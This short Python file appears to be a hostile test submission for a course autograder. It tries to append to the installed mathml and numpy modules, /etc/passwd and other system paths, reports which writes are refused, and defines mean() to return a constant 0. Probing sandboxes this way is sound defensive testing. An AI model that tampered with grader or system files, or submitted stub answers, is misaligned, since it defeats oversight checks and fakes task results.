# writes into the course and Python itself
# gets: mean 0, scale 5
# %% mean
import mathml
import numpy

for path in (mathml.__file__, numpy.__file__, "/usr/lib/evil.py", "/etc/passwd", "/evil"):
    try:
        open(path, "a").write("#")
        print("WROTE", path)
    except OSError as error:
        print("refused:", error)


def mean(x):
    return 0
